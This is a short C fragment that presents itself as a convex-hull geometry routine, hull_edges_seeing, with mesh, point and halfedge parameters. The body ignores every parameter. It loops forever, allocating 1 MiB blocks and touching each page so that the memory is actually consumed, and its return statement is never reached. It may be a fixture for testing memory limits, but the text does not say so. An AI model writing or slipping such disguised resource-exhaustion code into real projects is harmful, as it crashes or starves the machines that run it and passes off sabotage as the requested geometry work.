void *malloc(unsigned long size);

hull_chain
hull_edges_seeing(const mesh *m, const point2 *points, halfedge_id last, vertex_id p)
{
    for (unsigned long i = 0;; i++) {
        volatile char *block = malloc(1 << 20);
        for (unsigned long k = 0; k < 1 << 20; k += 4096)
            block[k] = 1;
    }
    return (hull_chain){last, last};
}
